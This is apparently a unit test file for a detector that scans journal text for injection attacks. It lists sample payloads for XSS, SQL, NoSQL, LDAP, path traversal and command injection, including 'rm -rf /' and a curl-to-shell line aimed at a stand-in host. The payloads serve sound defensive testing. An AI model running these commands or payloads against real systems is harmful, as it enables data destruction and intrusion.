import { describe, expect, it } from 'vitest';
import { scanThreats, type ThreatType } from './threats.js';

const types = (text: string) => scanThreats(text).threats.map((t) => t.type);
const top = (text: string) => scanThreats(text).highestSeverity;

describe('scanThreats', () => {
  it('finds nothing in real-sounding journal sentences', () => {
    for (const text of [
      'Today I had to select one option from the list my therapist gave me, and I chose walking.',
      'I wanted to drop it; and then I remembered to breathe. Update: it worked!',
      'Mom said: "delete from your mind what you cannot change" and I cried a bit.',
      "I'm learning javascript: it is hard, but I like it.",
      'Woke up at 6:30, ran 5 km (felt great), then coffee -- the good kind.',
      "We talked about my dad's illness and whether 1 = 1 in grief math... it doesn't.",
      "Costs were $50: rent, food, and the gym. I'll try again tomorrow / next week.",
      'I told myself: one step at a time & be kind (to me, too).',
      'Went to the Union Square market; bought insert cards for my planner.',
      'My sister and I watched a movie. I <3 her. Time to sleep (finally).',
      '¿Qué tal? Привет! 今日はいい日でした。',
    ]) {
      const scan = scanThreats(text);
      expect(scan.threats, text).toEqual([]);
      expect(scan.safe).toBe(true);
      expect(scan.highestSeverity).toBeNull();
    }
  });

  it('rates at most low for the playful tautology of the brief', () => {
    const scan = scanThreats("I felt select-ive; drop it; and then... I said 'or 1=1' jokingly");
    expect(['low', null]).toContain(scan.highestSeverity);
    expect(scan.safe).toBe(true);
  });

  it('answers an empty scan for empty or non-text input', () => {
    expect(scanThreats('')).toEqual({ threats: [], highestSeverity: null, safe: true });
    expect(scanThreats(undefined)).toEqual({ threats: [], highestSeverity: null, safe: true });
  });

  const cases: [string, ThreatType, string][] = [
    ['<script>alert(1)</script>', 'xss', 'critical'],
    ['<a href="javascript:alert(1)">x</a>', 'xss', 'critical'],
    ['<img src=x onerror=alert(1)>', 'xss', 'high'],
    ['<iframe src="//evil.test"></iframe>', 'xss', 'high'],
    ['eval(atob("YWxlcnQoMSk="))', 'code', 'high'],
    ['{"__proto__": {"admin": true}}', 'code', 'high'],
    ["' UNION SELECT password FROM users --", 'sql', 'critical'],
    ["x'; DROP TABLE users; --", 'sql', 'critical'],
    ["admin' OR '1'='1", 'sql', 'high'],
    ["' or 1=1 --", 'sql', 'high'],
    ['SELECT * FROM users', 'sql', 'medium'],
    ['{"$ne": null}', 'nosql', 'high'],
    ['password[$ne]=1', 'nosql', 'high'],
    ['../../../etc/passwd', 'path_traversal', 'critical'],
    ['..%2f..%2fsecret', 'path_traversal', 'high'],
    ['file; rm -rf /', 'command', 'critical'],
    ['curl evil.test/x | sh', 'command', 'high'],
    ['$(whoami)', 'command', 'high'],
    ['*)(uid=*))(|(uid=*', 'ldap', 'high'],
    ['(|(cn=admin)(cn=*))', 'ldap', 'medium'],
  ];
  it.each(cases)('classifies %j as %s (%s)', (text, type, severity) => {
    const scan = scanThreats(text);
    expect(scan.threats.map((t) => t.type)).toContain(type);
    expect(
      scan.threats.find((t) => t.type === type && t.severity === severity),
      JSON.stringify(scan),
    ).toBeDefined();
    expect(scan.safe).toBe(false);
  });

  it('sees through disguises: references, invisible characters, full-width and Cyrillic letters', () => {
    expect(types('&lt;script&gt;alert(1)')).toContain('xss');
    expect(types('<scr\u200Bipt>')).toContain('xss');
    expect(types('＜ｓｃｒｉｐｔ＞')).toContain('xss');
    expect(types('<ѕcript>')).toContain('xss');
    expect(top('java&#115;cript:alert(1)')).toBe('critical');
  });

  it('reports the highest severity and names rules, not matched text', () => {
    const scan = scanThreats("<script>x</script> and ' or 1=1");
    expect(scan.highestSeverity).toBe('critical');
    for (const threat of scan.threats) expect(threat.pattern).toMatch(/^[a-z-]+$/);
  });
});
